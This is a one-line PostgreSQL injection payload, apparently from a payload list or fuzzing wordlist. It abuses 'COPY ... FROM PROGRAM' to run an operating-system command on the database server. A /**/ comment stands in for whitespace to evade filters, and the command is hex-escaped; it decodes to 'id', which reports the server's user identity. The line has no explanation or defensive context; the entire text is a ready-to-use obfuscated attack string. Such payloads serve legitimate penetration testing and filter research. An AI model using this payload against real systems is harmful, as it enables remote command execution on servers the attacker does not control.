COPY"users"FROM/**/PROGRAM E'\x69\x64';
